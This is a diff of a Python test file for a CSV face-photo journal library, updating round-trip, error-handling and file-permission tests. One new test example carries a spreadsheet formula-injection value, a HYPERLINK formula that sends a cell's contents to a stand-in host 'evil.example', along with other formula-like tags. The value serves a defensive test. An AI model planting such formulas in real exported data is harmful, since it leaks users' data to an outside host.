@@ -8,7 +8,6 @@ import stat
 import subprocess
 import sys
 import tempfile
-import warnings
 from datetime import datetime, timedelta, timezone
 from pathlib import Path
 
@@ -40,7 +39,7 @@ def pixels_of(text: str) -> np.ndarray:
 
 @pytest.fixture
 def journal(tmp_path) -> Journal:
-    return Journal(tmp_path / "journal", fsync=False)
+    return Journal.create(tmp_path / "journal", fsync=False)
 
 
 # ------------------------------------------------------------------------------------------- round trips
@@ -51,7 +50,7 @@ entries = st.builds(
     dict,
     seed=st.integers(0, 2**32 - 1),
     box=st.tuples(st.integers(0, 5000), st.integers(0, 5000), st.integers(1, 5000), st.integers(1, 5000)),
-    probabilities=st.lists(st.floats(0, 1), min_size=7, max_size=7),
+    probabilities=st.lists(st.floats(0.001, 1), min_size=7, max_size=7).map(lambda p: np.divide(p, sum(p))),
     source=st.sampled_from(SOURCES),
     model=texts,
     model_version=texts,
@@ -65,13 +64,17 @@ entries = st.builds(
 
 @settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
 @given(specs=st.lists(entries, min_size=1, max_size=4))
+@example(specs=[{"seed": 2, "box": (1, 1, 1, 1), "probabilities": [1 / 7] * 7, "source": "upload",
+                 "model": "-model", "model_version": "+1", "note": '=HYPERLINK("http://evil.example/?d="&B3,"x")',
+                 "tags": ["@sum", "'=q", "''", "-1"], "user_label": None, "when": datetime(2025, 1, 1),
+                 "offset": 0}])
 @example(specs=[{"seed": 1, "box": (0, 0, 1, 1), "probabilities": [0, 0, 0, 1, 0, 0, 0], "source": "file",
-                 "model": 'm,"x"', "model_version": "2\n", "note": TRICKY, "tags": ["a,b", ' "q" ', "#x"],
+                 "model": 'm,"x"', "model_version": "2\n", "note": TRICKY, "tags": ["a,b", ' "q" ', "#x", "=1+2"],
                  "user_label": "happy", "when": datetime(2025, 1, 1), "offset": -330}])
 def test_round_trip(specs):
     made = []
     with tempfile.TemporaryDirectory() as tmp:
-        journal = Journal(tmp, fsync=False)
+        journal = Journal.create(tmp, fsync=False)
         for spec in specs:
             rng = np.random.default_rng(spec["seed"])
             when = spec["when"].replace(tzinfo=timezone(timedelta(minutes=spec["offset"])))
@@ -306,7 +309,9 @@ def test_wrong_header(tmp_path):
     with pytest.raises(DataFormatError, match=r"line 2: wrong header.*missing"):
         read_journal(path)
     with pytest.raises(DataFormatError, match="line 2"):
-        Journal(tmp_path)  # refuses to append to it
+        Journal.open(tmp_path)
+    with pytest.raises(DataFormatError, match="line 2"):
+        Journal(tmp_path).append(make_entry(np.random.default_rng(0)))  # refuses to append to it
 
 
 def test_not_a_journal(tmp_path):
@@ -352,10 +357,10 @@ def _rows_with_bad_middle(journal, rng, bad: str):
 def test_malformed_middle_row(journal, rng, bad, field):
     _rows_with_bad_middle(journal, rng, bad)
     with pytest.raises(DataFormatError, match=r"journal\.csv, line 7") as info:
-        journal.read()
+        journal.read(on_error="raise")
     assert info.value.line == 7 and info.value.field == field
-    with pytest.warns(JournalWarning, match="malformed"):
-        data = journal.read(on_error="skip")
+    with pytest.warns(JournalWarning, match=r"1 row\(s\) skipped .*1 malformed.* at line\(s\) 7"):
+        data = journal.read()  # the default: skip and report
     assert len(data.entries) == 3
     assert data.problems[["line", "kind"]].values.tolist() == [[7, "malformed"]]
 
@@ -365,7 +370,7 @@ def test_duplicate_entry_id(journal, rng):
     with open(journal.path, "ab") as fh:
         fh.write(e.to_row())
     with pytest.raises(DataFormatError, match=r"line 4.*already used at line 3"):
-        journal.read()
+        journal.read(on_error="raise")
 
 
 def test_read_paths(tmp_path, journal):
@@ -403,7 +408,8 @@ def test_owner_only_permissions(tmp_path, rng, umask):
     for entry in (e, f):
         photo = journal.photo_path(entry.entry_id)
         assert photo is not None and photo.suffix == ".png" and _mode(photo) == 0o600
-    assert journal.photo_path(e.entry_id).read_bytes() == png.read_bytes()
+    with Image.open(journal.photo_path(e.entry_id)) as kept, Image.open(png) as original:
+        np.testing.assert_array_equal(np.asarray(kept), np.asarray(original))
     entries = journal.read().entries
     assert entries.at[e.entry_id, "photo"] == f"photos/{e.entry_id}.png"
     assert not list((journal.folder / "photos").glob(".*"))  # no temporary files left
@@ -441,7 +447,6 @@ def test_labelled_faces_bad_pixels(journal, rng):
         fh.write(head + "," + px.replace("1", "x", 1))
     with pytest.raises(DataFormatError, match="line 3, field 'pixels'"):
         journal.labelled_faces()
-    with warnings.catch_warnings():
-        warnings.simplefilter("error")
-        fer = journal.read().labelled_faces(on_error="skip")
-    assert len(fer) == 0 and fer.skipped["line"].tolist() == [3]
+    with pytest.warns(JournalWarning, match="pixel value 'x"):
+        fer = journal.read().labelled_faces(on_error="skip")  # the row is checked (and skipped) on reading
+    assert len(fer) == 0
